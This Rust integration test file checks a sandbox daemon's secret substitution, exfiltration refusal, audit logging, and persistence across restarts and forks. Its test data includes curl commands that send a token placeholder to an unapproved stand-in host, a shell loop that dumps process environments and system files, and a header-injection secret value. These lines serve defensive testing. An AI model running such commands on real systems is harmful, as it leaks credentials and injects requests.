//! Sessions' secrets (`secrets` on `POST /v1/sessions`): the sandbox holds a
//! placeholder; the session's proxy puts the value into requests toward the
//! secret's hosts (over TLS it intercepts with the daemon's CA), refuses and
//! audits the placeholder anywhere else, and the value shows up nowhere else.
//!
//! All traffic stays on this machine: the upstreams listen on a loopback address
//! of their own (HTTPS on 443, plain HTTP on any port), with a certificate from
//! a CA this test makes and the daemon trusts through `--egress-ca-file`; names
//! map to them through `--egress-hosts`.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use serde_json::{json, Value};

use crate::common::daemon::Daemon;
use crate::support::*;

/// Stands for the value in what the upstream echoes, so the value itself never
/// travels back into the sandbox or the API's answers.
const SEEN: &str = "[[THE-REAL-VALUE]]";

struct Upstreams {
    /// The hosts file and the upstream CA (PEM) the daemon is given.
    dir: tempfile::TempDir,
    http_port: u16,
    /// This test's secret value (unique per test).
    value: String,
}

impl Upstreams {
    fn hosts(&self) -> String {
        self.dir.path().join("hosts").to_string_lossy().into_owned()
    }

    fn ca(&self) -> String {
        self.dir
            .path()
            .join("upstream-ca.pem")
            .to_string_lossy()
            .into_owned()
    }

    /// The daemon's flags: the hosts file, loopback opened, the upstream CA.
    fn args(&self) -> Vec<String> {
        [
            "--default-image",
            "host",
            "--egress-hosts",
            &self.hosts(),
            "--egress-allow-private",
            "127.0.0.0/8",
            "--egress-ca-file",
            &self.ca(),
        ]
        .map(String::from)
        .to_vec()
    }

    fn daemon(&self) -> Daemon {
        let args = self.args();
        Daemon::start(&args.iter().map(String::as_str).collect::<Vec<_>>())
    }

    /// A session allowed to reach `api.test` and `other.test`, with the secret
    /// TOKEN for `api.test`.
    fn request(&self) -> Value {
        json!({
            "network": {"mode": "allow", "allow": ["api.test", "other.test"]},
            "secrets": [{"name": "TOKEN", "value": self.value, "hosts": ["api.test"]}],
            "env": {"HTTP_PORT": self.http_port.to_string()},
        })
    }
}

/// HTTPS on IP:443 and HTTP on IP:any, both answering with the request head they
/// got, the value replaced by [`SEEN`].
fn upstreams(test: &str) -> Upstreams {
    let n = std::process::id() as u64 * 31
        + test.bytes().map(u64::from).sum::<u64>() * 7919
        + std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos() as u64;
    let ip = format!(
        "127.{}.{}.{}",
        20 + n % 200,
        (n >> 8) % 250 + 1,
        (n >> 16) % 250 + 1
    );
    let value = format!("v4lue-{test}-{n:x}");
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "brig test upstream CA");
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec!["api.test".into(), "other.test".into()])
        .unwrap()
        .signed_by(&leaf_key, &issuer)
        .unwrap();
    let key = rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into());
    let config = Arc::new(
        rustls::ServerConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![leaf.der().clone()], key)
        .unwrap(),
    );
    let https = TcpListener::bind((ip.as_str(), 443)).unwrap();
    let value_tls = value.clone();
    std::thread::spawn(move || {
        for stream in https.incoming() {
            let Ok(stream) = stream else { return };
            let (config, value) = (config.clone(), value_tls.clone());
            std::thread::spawn(move || {
                let conn = rustls::ServerConnection::new(config).unwrap();
                let mut tls = rustls::StreamOwned::new(conn, stream);
                echo(&mut tls, &value);
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    let http = TcpListener::bind((ip.as_str(), 0)).unwrap();
    let http_port = http.local_addr().unwrap().port();
    let value_http = value.clone();
    std::thread::spawn(move || {
        for stream in http.incoming() {
            let Ok(mut stream) = stream else { return };
            let value = value_http.clone();
            std::thread::spawn(move || echo(&mut stream, &value));
        }
    });
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("hosts"),
        format!("{ip} api.test other.test\n"),
    )
    .unwrap();
    std::fs::write(dir.path().join("upstream-ca.pem"), ca_cert.pem()).unwrap();
    Upstreams {
        dir,
        http_port,
        value,
    }
}

fn echo<S: Read + Write>(stream: &mut S, value: &str) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => return,
        }
    }
    let text = String::from_utf8_lossy(&head).replace(value, SEEN);
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
        text.len()
    );
    let _ = stream.flush();
}

/// `cmd` in the session (a shell); its stdout.
fn run(d: &Daemon, key: &str, id: &str, cmd: &str) -> String {
    let r = exec(
        d,
        key,
        id,
        json!({"argv": ["/bin/sh", "-c", cmd], "timeout_ms": 60_000}),
    );
    assert_eq!(r["exit_code"], 0, "{r}");
    r["stdout"].as_str().unwrap().to_string()
}

/// curl and Python toward the secret's host, with the placeholder in a header.
const TO_API: &str = r#"
curl -sS --max-time 20 https://api.test/h -H "Authorization: Bearer $TOKEN"
/usr/bin/python3 -c 'import os, urllib.request as u; r = u.Request("https://api.test/p", headers={"X-Key": os.environ["TOKEN"]}); print(u.urlopen(r, timeout=20).read().decode())'
"#;

/// The placeholder toward `other.test`, allowed by the policy but not a host of
/// the secret: over plain HTTP and over HTTPS.
const TO_OTHER: &str = r#"
echo "== http"; curl -sS --max-time 20 "http://other.test:$HTTP_PORT/h" -H "X-Leak: $TOKEN"
echo "== https"; curl -sSk --max-time 20 "https://other.test/h?k=$TOKEN"
echo "== end"
"#;

fn assert_substituted(out: &str) {
    assert!(
        out.contains(&format!("Authorization: Bearer {SEEN}")),
        "curl: {out}"
    );
    assert!(out.contains(&format!("X-Key: {SEEN}")), "python: {out}");
}

#[test]
fn root_a_sessions_secret_is_substituted_toward_its_host() {
    require_root!();
    let up = upstreams("subst");
    let d = up.daemon();
    let key = d.admin_key().to_string();
    let id = sid(&create(&d, &key, up.request()));
    assert_substituted(&run(&d, &key, &id, TO_API));
    delete_session(&d, &key, &id);
}

#[test]
fn root_a_placeholder_sent_to_another_host_is_refused_and_audited_as_exfiltration() {
    require_root!();
    let up = upstreams("exfil");
    let d = up.daemon();
    let key = d.admin_key().to_string();
    let id = sid(&create(&d, &key, up.request()));
    let out = run(&d, &key, &id, TO_OTHER);
    // The plain request is read and refused by the proxy, naming the secret and
    // where it may go; the HTTPS one is not intercepted (other.test has no secret),
    // so the placeholder went through opaque and stayed a placeholder.
    let http = &out[out.find("== http\n").unwrap()..out.find("== https").unwrap()];
    assert!(
        http.contains("TOKEN") && http.contains("api.test") && !http.contains(SEEN),
        "{out}"
    );
    let https = &out[out.find("== https\n").unwrap()..];
    assert!(
        https.contains("brig-secret-TOKEN-") && !https.contains(SEEN),
        "{out}"
    );
    let found = crate::common::eventually(30_000, || {
        audit_of(&d, "egress.connect").iter().any(|e| {
            e["session_id"] == id.as_str()
                && e["outcome"] == "refused"
                && e["detail"]["reason"] == "secret_exfiltration"
                && e["detail"]["secret"] == "TOKEN"
                && e["detail"]["host"] == "other.test"
        })
    });
    assert!(found, "{:#?}", audit_of(&d, "egress.connect"));
    delete_session(&d, &key, &id);
}

/// Every file under `dir` whose bytes hold `needle`.
fn files_holding(dir: &Path, needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(dir) = todo.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if kind.is_dir() {
                todo.push(entry.path());
            } else if kind.is_file() {
                let bytes = std::fs::read(entry.path()).unwrap_or_default();
                if bytes.windows(needle.len()).any(|w| w == needle.as_bytes()) {
                    found.push(entry.file_name().to_string_lossy().into_owned());
                }
            }
        }
    }
    found.sort();
    found
}

#[test]
fn root_a_secrets_value_appears_nowhere_but_in_requests_to_its_host() {
    require_root!();
    use std::os::unix::fs::PermissionsExt;
    let up = upstreams("nowhere");
    let d = up.daemon();
    let key = d.admin_key().to_string();
    let created = create(&d, &key, up.request());
    let id = sid(&created);
    // The value travels (and a refusal is logged and audited) before anything is read.
    assert_substituted(&run(&d, &key, &id, TO_API));
    run(&d, &key, &id, TO_OTHER);
    let (_, got) = d.request("GET", &format!("/v1/sessions/{id}"), Some(&key), None);
    let (_, list) = d.request("GET", "/v1/sessions", Some(&key), None);
    let (_, audit) = d.request("GET", "/v1/audit?limit=1000", Some(&key), None);
    let secret = &got["secrets"][0];
    assert_eq!(secret["name"], "TOKEN", "{got}");
    assert_eq!(secret["hosts"], json!(["api.test"]), "{got}");
    assert!(secret.get("value").is_none(), "{got}");
    let placeholder = secret["placeholder"].as_str().unwrap().to_string();
    assert!(placeholder.starts_with("brig-secret-TOKEN-"), "{got}");
    for (what, answer) in [
        ("create", &created),
        ("get", &got),
        ("list", &list),
        ("audit", &audit),
    ] {
        assert!(!answer.to_string().contains(&up.value), "{what}: {answer}");
    }
    // The create's event names the secret and its hosts.
    let event = audit["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["action"] == "session.create" && e["session_id"] == id.as_str())
        .unwrap_or_else(|| panic!("no session.create in {audit}"));
    assert_eq!(
        event["detail"]["secrets"],
        json!([{"name": "TOKEN", "hosts": ["api.test"]}]),
        "{event}"
    );
    // Inside: the variable holds the placeholder; no environment, command line or
    // file the sandbox can read holds the value, and brig's CA is in its bundle.
    let inside = run(
        &d,
        &key,
        &id,
        "echo \"PLACEHOLDER=$TOKEN\"; \
         for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat \"$f\" 2>/dev/null; echo; done; \
         find /etc /tmp /workspace -type f -size -4M 2>/dev/null | while read -r f; do cat \"$f\" 2>/dev/null; done; \
         echo '== end'",
    );
    assert!(inside.contains("== end"), "{inside}");
    assert!(
        inside.contains(&format!("PLACEHOLDER={placeholder}")),
        "{inside}"
    );
    assert!(
        inside.contains("brig egress CA"),
        "the bundle holds brig's CA"
    );
    assert!(
        !inside.contains(&up.value),
        "the value leaked into the sandbox"
    );
    // Nor the daemon's log; on the host only its database holds it, owner-only.
    assert!(!d.log_text().contains(&up.value), "the value is in the log");
    let holding = files_holding(d.data_dir(), &up.value);
    assert!(!holding.is_empty(), "the value is stored for restarts");
    for name in &holding {
        assert!(name.starts_with("brig.db"), "{name} holds the value");
        let mode = std::fs::metadata(d.data_dir().join(name))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o077, 0, "{name}: {mode:o}");
    }
    let ca = std::fs::metadata(d.data_dir().join("egress-ca.pem")).unwrap();
    assert_eq!(ca.permissions().mode() & 0o777, 0o600);
    delete_session(&d, &key, &id);
}

#[test]
fn root_a_restarted_daemon_substitutes_a_sessions_secret_again() {
    require_root!();
    let up = upstreams("restart");
    let dir = tempfile::tempdir().unwrap();
    let (data, store) = (dir.path().join("data"), dir.path().join("store"));
    let args = up.args();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut d = Daemon::start_in(&data, &store, &args);
    let key = d.admin_key().to_string();
    let created = create(&d, &key, up.request());
    let id = sid(&created);
    assert_substituted(&run(&d, &key, &id, TO_API));
    d.kill9();
    let d = Daemon::start_in(&data, &store, &args);
    d.remember_key(&key);
    let (_, got) = d.request("GET", &format!("/v1/sessions/{id}"), Some(&key), None);
    assert_eq!(got["secrets"], created["secrets"], "{got}");
    assert_substituted(&run(&d, &key, &id, TO_API));
    let out = run(&d, &key, &id, TO_OTHER);
    assert!(!out.contains(SEEN), "{out}");
    delete_session(&d, &key, &id);
}

#[test]
fn root_a_restore_keeps_the_secrets_and_a_fork_gets_only_its_own() {
    require_root!();
    let up = upstreams("fork");
    let d = up.daemon();
    let key = d.admin_key().to_string();
    let created = create(&d, &key, up.request());
    let id = sid(&created);
    let placeholder = created["secrets"][0]["placeholder"].as_str().unwrap();
    let (status, snap) = take_snapshot(&d, &key, &id);
    assert_eq!(status, 201, "{snap}");
    let (status, restored) = restore(&d, &key, &id, &snap["snapshot_id"]);
    assert_eq!(status, 200, "{restored}");
    assert_eq!(restored["secrets"], created["secrets"], "{restored}");
    assert_substituted(&run(&d, &key, &id, TO_API));
    assert_eq!(run(&d, &key, &id, "printf %s \"$TOKEN\""), placeholder);
    // A fork asks for no secrets: it has none, and the old placeholder is only text.
    let fork = create(
        &d,
        &key,
        json!({"snapshot": snap["snapshot_id"],
               "env": {"OLD": placeholder, "HTTP_PORT": up.http_port.to_string()}}),
    );
    let fork_id = sid(&fork);
    assert_eq!(fork["secrets"], json!([]), "{fork}");
    let out = run(
        &d,
        &key,
        &fork_id,
        "echo \"TOKEN=${TOKEN:-unset}\"; curl -sS --max-time 20 http://api.test:$HTTP_PORT/h -H \"X-Old: $OLD\"",
    );
    assert!(out.contains("TOKEN=unset"), "{out}");
    assert!(out.contains(&format!("X-Old: {placeholder}")), "{out}");
    assert!(!out.contains(SEEN), "{out}");
    delete_session(&d, &key, &fork_id);
    delete_session(&d, &key, &id);
    delete_snapshot(&d, &key, &snap);
}

#[test]
fn root_bad_secrets_are_refused_naming_why_and_create_nothing() {
    require_root!();
    let up = upstreams("bad");
    let d = up.daemon();
    let key = d.admin_key().to_string();
    let secret =
        |name: &str, hosts: Value| json!({"name": name, "value": up.value, "hosts": hosts});
    let open = json!({"mode": "open"});
    for (body, named) in [
        (
            json!({"secrets": [secret("TOKEN", json!(["api.test"]))]}),
            "none",
        ),
        (
            json!({"network": open, "secrets": [
                secret("TOKEN", json!(["api.test"])), secret("TOKEN", json!(["other.test"]))]}),
            "TOKEN is given twice",
        ),
        (
            json!({"network": open, "secrets": [secret("TOKEN", json!(["10.0.0.1"]))]}),
            "10.0.0.1",
        ),
        (
            json!({"network": open, "secrets": [secret("TOKEN", json!(["api.test:443"]))]}),
            "api.test:443",
        ),
        (
            json!({"network": open, "secrets": [secret("BAD-NAME", json!(["api.test"]))]}),
            "BAD-NAME",
        ),
        (
            json!({"network": open, "env": {"TOKEN": "x"},
                   "secrets": [secret("TOKEN", json!(["api.test"]))]}),
            "env",
        ),
        (
            json!({"network": open, "secrets": [{"name": "TOKEN", "value": "a\r\nX-Evil: 1",
                                                 "hosts": ["api.test"]}]}),
            "line break",
        ),
    ] {
        let (status, err) = d.request("POST", "/v1/sessions", Some(&key), Some(body.clone()));
        assert_eq!(status, 422, "{body}: {err}");
        assert_eq!(error_code(&err), "invalid_request", "{err}");
        let message = err["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains(named), "{named}: {err}");
        assert_eq!(message.lines().count(), 1, "{err}");
        assert!(!err.to_string().contains(&up.value), "{err}");
    }
    assert_eq!(session_count(&d, &key), 0);
    std::thread::sleep(Duration::from_millis(100));
    assert!(!d.log_text().contains(&up.value), "the value is in the log");
}
